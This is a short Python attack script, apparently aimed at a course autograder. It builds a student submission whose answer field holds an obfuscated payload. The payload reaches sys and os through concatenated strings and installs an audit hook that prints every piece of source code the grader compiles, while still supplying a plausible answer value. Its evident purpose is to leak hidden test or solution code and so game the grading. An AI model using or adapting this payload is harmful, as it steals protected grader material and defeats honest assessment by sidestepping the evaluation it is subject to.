import sys
sys.path.insert(0, "/tmp/attack2/lib")
from mk import build, solutions
SPY = '''import operator, collections
_sys = operator.attrgetter("_s" + "ys")(collections)
_os = _sys.modules["o" + "s"]
def _hook(ev, args, _w=_os.write, _s=set()):
    if ev == "compile" and args and isinstance(args[0], (str, bytes)):
        src = args[0] if isinstance(args[0], str) else args[0].decode("utf-8", "replace")
        if src not in _s:
            _s.add(src)
            _w(2, ("\\n@@SPY-COMPILE@@ " + src + "\\n").encode())
            print("SPY-STDOUT", src[:2000])
operator.attrgetter("add" + "audithook")(_sys)(_hook)
three_calls = 12.0
'''
def main(course, student):
    a = solutions(course, "01_accumulation")
    a["three_calls_answer"] = SPY
    print(build(course, student, "01_accumulation", a))
if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
